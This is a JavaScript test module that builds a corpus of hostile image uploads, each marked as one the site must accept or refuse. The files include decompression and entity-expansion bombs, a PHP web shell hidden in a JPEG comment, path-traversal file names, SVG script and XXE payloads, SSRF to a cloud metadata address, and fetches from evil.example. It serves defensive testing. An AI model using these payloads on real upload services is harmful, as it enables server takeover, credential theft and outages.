import { constants, deflateRawSync, deflateSync, crc32 as zlibCrc32 } from 'node:zlib';
import sharp from 'sharp';
import { heicPhoto } from '../../../tests/support/phone-photos.mjs';

/** Hostile files for uploads, all generated here. `expect` says whether the site must accept or reject a file. */

/** CRC-32 of PNG chunks; Node has a built-in since 22.2. */
const table = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 =
  zlibCrc32 ??
  ((bytes) => (bytes.reduce((c, byte) => table[(c ^ byte) & 0xff] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0);

const chunk = (type, data) => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(type, 4, 'latin1');
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, tail]);
};
const pngHead = Buffer.from('89504e470d0a1a0a', 'hex');
const ihdr = (width, height) => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([1, 0, 0, 0, 0], 8);
  return chunk('IHDR', data);
};
/** One bit per pixel, all of one color: 196 megapixels in a few dozen kilobytes. */
const bombPng = (width, height) =>
  Buffer.concat([
    pngHead,
    ihdr(width, height),
    chunk('IDAT', deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);

/** Deflates this many zeros without allocating them all (RFC 1950: the checksum of zeros is known). */
function deflatedZeros(count) {
  const step = 1_000_000;
  const zeros = Buffer.alloc(step);
  const check = Buffer.from([0, 0, 0, 1]);
  check.writeUInt16BE(count % 65_521, 0);
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array(Math.floor(count / step)).fill(deflateRawSync(zeros, { finishFlush: constants.Z_SYNC_FLUSH })),
    deflateRawSync(zeros.subarray(0, count % step)),
    check,
  ]);
}

/** 16 bits in four channels, all of one color, interlaced: a decoder must hold eight bytes per pixel in memory. */
export function interlacedPng(side) {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(side, 0);
  data.writeUInt32BE(side, 4);
  data.set([16, 6, 0, 0, 1], 8);
  return Buffer.concat([
    pngHead,
    chunk('IHDR', data),
    chunk('IDAT', deflatedZeros(8 * side * side + 2 * side)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Builds an animation (APNG) that declares its number of frames. */
function apng(png, frames) {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames, 0);
  const headerEnd = pngHead.length + 25;
  return Buffer.concat([png.subarray(0, headerEnd), chunk('acTL', control), png.subarray(headerEnd)]);
}

/** A progressive photo of one color, with full or subsampled chroma: six or three bytes of coefficients per pixel. */
export const progressivePhoto = (width, height, chromaSubsampling) =>
  sharp({ create: { width, height, channels: 3, background: '#246' } })
    .jpeg({ progressive: true, chromaSubsampling })
    .toBuffer();

/** A drawing with 10^9 shapes: each level uses the previous one ten times. */
export const endlessSvg = () =>
  svg(
    Array.from({ length: 9 }, (_, level) =>
      level === 0
        ? '<g id="l0"><rect width="9" height="9"/></g>'
        : `<g id="l${level}">${`<use href="#l${level - 1}"/>`.repeat(10)}</g>`,
    ).join(''),
  );

/** A GIF with a comment of about `bytes` bytes, in blocks of `blockBytes` each. */
export function gifOfBlocks(bytes, blockBytes) {
  const block = Buffer.alloc(blockBytes + 1, 0x20);
  block.writeUInt8(blockBytes, 0);
  const comment = Buffer.alloc(Math.floor(bytes / block.length) * block.length, block);
  const end = Buffer.from([0x00, 0x3b]);
  return Buffer.concat([gifHead(1, 1), gifFrame, Buffer.from([0x21, 0xfe]), comment, end]);
}

const gifHead = (width, height) => {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return head;
};
const gifFrame = Buffer.from('2c00000000010001000002024401 00'.replaceAll(' ', ''), 'hex');
const manyFrames = (count) =>
  Buffer.concat([gifHead(1, 1), ...Array.from({ length: count }, () => gifFrame), Buffer.from([0x3b])]);

const svg = (inside, attributes = '') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" ${attributes}>${inside}</svg>`,
  );

const heicBomb = (claims) => heicPhoto({ width: 512, height: 512, claims });

/** A HEIC whose grid claims a width and height of `side`. */
export function heicWithGrid(heic, side) {
  const copy = Buffer.from(heic);
  const grid = copy.indexOf('idat') + 8;
  copy.writeUInt16BE(side, grid);
  copy.writeUInt16BE(side, grid + 2);
  return copy;
}

/** @returns {Promise<{ name: string, bytes: Buffer, type: string, expect: 'taken' | 'refused' | 'either' }[]>} */
export async function corpus() {
  const base = sharp({ create: { width: 400, height: 300, channels: 3, background: '#4a6' } });
  const jpeg = await base.clone().jpeg().toBuffer();
  const png = await base.clone().png().toBuffer();
  const gif = await base.clone().gif().toBuffer();
  const webp = await base.clone().webp().toBuffer();
  const cmyk = await base.clone().toColourspace('cmyk').jpeg().toBuffer();
  const avif = await base.clone().avif().toBuffer();
  const heic = await heicPhoto({ width: 2_560, height: 1_536 });
  const tiff = await base.clone().tiff().toBuffer();
  const text = (value) => Buffer.from(value);
  const after = (bytes, value) => Buffer.concat([bytes, text(value)]);
  const file = (name, bytes, type, expect) => ({ name, bytes, type, expect });
  const html = '<html><script>alert(1)</script></html>';
  const flipped = (bytes, at) => {
    const copy = Buffer.from(bytes);
    copy[at] ^= 0xff;
    return copy;
  };
  return [
    file('photo.jpg', jpeg, 'image/jpeg', 'taken'),
    file('photo.png', png, 'image/png', 'taken'),
    file('photo.gif', gif, 'image/gif', 'taken'),
    file('photo.webp', webp, 'image/webp', 'taken'),
    file('cmyk.jpg', cmyk, 'image/jpeg', 'taken'),
    file('said-to-be-png.png', jpeg, 'image/png', 'taken'),
    file('said-to-be-html.html', jpeg, 'text/html', 'either'),
    file('double.php.jpg', jpeg, 'image/jpeg', 'taken'),
    file('../../etc/cron.d/evil.jpg', jpeg, 'image/jpeg', 'taken'),
    file('nul\u0000.php', jpeg, 'image/jpeg', 'either'),
    file('…very long…'.repeat(40) + '.jpg', jpeg, 'image/jpeg', 'either'),
    file('gif-js.gif', Buffer.concat([text('GIF89a=1;alert(1)//'), gif.subarray(19)]), 'image/gif', 'refused'),
    file('gif-with-script.gif', after(gif, '*/=alert(1);/*'), 'image/gif', 'either'),
    file('jpeg-with-html.jpg', after(jpeg, html), 'image/jpeg', 'either'),
    file('png-with-html.png', after(png, html), 'image/png', 'either'),
    file('jpeg-with-zip.jpg', Buffer.concat([jpeg, text('PK\x03\x04'), Buffer.alloc(200)]), 'image/jpeg', 'either'),
    file(
      'php-in-comment.jpg',
      Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, 30]),
        text('<?php system($_GET["c"]); ?>'),
        jpeg.subarray(2),
      ]),
      'image/jpeg',
      'taken',
    ),
    file('html-as.jpg', text(html), 'image/jpeg', 'refused'),
    file('pdf-as.png', text('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n'), 'image/png', 'refused'),
    file('exe-as.jpg', Buffer.concat([text('MZ'), Buffer.alloc(500)]), 'image/jpeg', 'refused'),
    file('zip-as.jpg', Buffer.concat([text('PK\x03\x04'), Buffer.alloc(500)]), 'image/jpeg', 'refused'),
    file('elf-as.png', Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(500)]), 'image/png', 'refused'),
    file(
      'heic-as.jpg',
      Buffer.concat([Buffer.from('0000001c', 'hex'), text('ftypheic'), Buffer.alloc(500)]),
      'image/jpeg',
      'refused',
    ),
    file('avif.avif', avif, 'image/avif', 'taken'),
    file('half.avif', avif.subarray(0, avif.length / 2), 'image/avif', 'refused'),
    file('photo.heic', heic, 'image/heic', 'taken'),
    file('half.heic', heic.subarray(0, heic.length - 1_000), 'image/heic', 'refused'),
    file('damaged.heic', flipped(heic, heic.length - 900), 'image/heic', 'either'),
    file('bomb-63-megapixels.heic', await heicBomb({ width: 9_000, height: 7_000 }), 'image/heic', 'refused'),
    // The header claims a small picture, but the grid inside has 4 gigapixels.
    file('bomb-behind-the-header.heic', heicWithGrid(heic, 65_535), 'image/heic', 'either'),
    file('tiff.tiff', tiff, 'image/tiff', 'refused'),
    file('bmp.bmp', Buffer.concat([text('BM'), Buffer.alloc(500)]), 'image/bmp', 'refused'),
    file(
      'mvg.jpg',
      text(
        'push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "https://evil.example/x"\npop graphic-context',
      ),
      'image/jpeg',
      'refused',
    ),
    file('eps.jpg', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'), 'image/jpeg', 'refused'),
    file('empty.jpg', Buffer.alloc(0), 'image/jpeg', 'refused'),
    file('two-bytes.jpg', Buffer.from([0xff, 0xd8]), 'image/jpeg', 'refused'),
    file('head-only.jpg', jpeg.subarray(0, 200), 'image/jpeg', 'refused'),
    file('half.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 'refused'),
    file('half.png', png.subarray(0, png.length / 2), 'image/png', 'refused'),
    file('half.gif', gif.subarray(0, gif.length / 2), 'image/gif', 'refused'),
    file('half.webp', webp.subarray(0, webp.length / 2), 'image/webp', 'refused'),
    file('damaged.jpg', flipped(jpeg, Math.floor(jpeg.length / 2)), 'image/jpeg', 'either'),
    file('damaged.png', flipped(png, Math.floor(png.length / 2)), 'image/png', 'either'),
    file('damaged-head.png', flipped(png, 20), 'image/png', 'either'),
    file('bomb-196-megapixels.png', bombPng(14_000, 14_000), 'image/png', 'refused'),
    file('bomb-wide.png', bombPng(60_000, 1_000), 'image/png', 'refused'),
    file('bomb-49-megapixels.png', bombPng(7_000, 7_000), 'image/png', 'either'),
    file('bomb-interlaced-16-bit.png', interlacedPng(7_000), 'image/png', 'refused'),
    file('progressive-50-megapixels.jpg', await progressivePhoto(8_000, 6_250, '4:2:0'), 'image/jpeg', 'taken'),
    file('bomb-progressive-full-colour.jpg', await progressivePhoto(8_000, 6_250, '4:4:4'), 'image/jpeg', 'refused'),
    file('301-frames.apng.png', apng(png, 301), 'image/png', 'refused'),
    file('one-byte-blocks.gif', gifOfBlocks(10_000_000, 1), 'image/gif', 'either'),
    file('endless.svg', endlessSvg(), 'image/svg+xml', 'either'),
    file('no-width.png', bombPng(0, 100), 'image/png', 'refused'),
    file(
      'claims-4-gigapixels.gif',
      Buffer.concat([gifHead(65_535, 65_535), gifFrame, Buffer.from([0x3b])]),
      'image/gif',
      'refused',
    ),
    file('10000-frames.gif', manyFrames(10_000), 'image/gif', 'refused'),
    file(
      'too-large.jpg',
      Buffer.concat([jpeg.subarray(0, -2), Buffer.alloc(10 * 1024 * 1024), jpeg.subarray(-2)]),
      'image/jpeg',
      'refused',
    ),
    file('script.svg', svg('<script>alert(1)</script>'), 'image/svg+xml', 'either'),
    file('onload.svg', svg('', 'onload="alert(1)"'), 'image/svg+xml', 'either'),
    file(
      'foreign.svg',
      svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
      'image/svg+xml',
      'either',
    ),
    file(
      'href.svg',
      svg('<image xlink:href="http://169.254.169.254/latest/meta-data/" width="80" height="80"/>'),
      'image/svg+xml',
      'either',
    ),
    file('file.svg', svg('<image href="file:///etc/passwd" width="80" height="80"/>'), 'image/svg+xml', 'either'),
    file(
      'xxe.svg',
      Buffer.concat([text('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), svg('<text>&x;</text>')]),
      'image/svg+xml',
      'either',
    ),
    file(
      'lol.svg',
      Buffer.concat([
        text(
          `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}"><!ENTITY e "${'&d;'.repeat(50)}">]>`,
        ),
        svg('<text>&e;</text>'),
      ]),
      'image/svg+xml',
      'either',
    ),
    file(
      'use.svg',
      svg(
        `<defs>${Array.from({ length: 25 }, (_, n) => `<g id="g${n}">${n === 0 ? '<rect width="1" height="1"/>' : `<use href="#g${n - 1}"/><use href="#g${n - 1}"/>`}</g>`).join('')}</defs><use href="#g24"/>`,
      ),
      'image/svg+xml',
      'either',
    ),
    file(
      'blur.svg',
      svg(
        '<filter id="f"><feGaussianBlur stdDeviation="100000"/></filter><rect width="80" height="80" filter="url(#f)"/>',
        'viewBox="0 0 100000 100000"',
      ),
      'image/svg+xml',
      'either',
    ),
    file(
      'huge.svg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>'),
      'image/svg+xml',
      'either',
    ),
    file('half-megabyte.svg', svg(`<!--${'x'.repeat(600 * 1024)}-->`), 'image/svg+xml', 'refused'),
    file('import.svg', svg('<style>@import url(https://evil.example/x.css);</style>'), 'image/svg+xml', 'either'),
    file('plain.svg', svg('<rect width="80" height="80" fill="#4a6"/>'), 'image/svg+xml', 'taken'),
    file('gzip.svgz', Buffer.concat([Buffer.from('1f8b', 'hex'), Buffer.alloc(100)]), 'image/svg+xml', 'refused'),
    file(
      'utf16.svg',
      Buffer.from(`\ufeff${svg('<script>alert(1)</script>').toString()}`, 'utf16le'),
      'image/svg+xml',
      'either',
    ),
    file('wasm-as.png', Buffer.from('0061736d01000000', 'hex'), 'image/png', 'refused'),
    file('spaces.png', Buffer.concat([text('   '), png]), 'image/png', 'refused'),
  ];
}
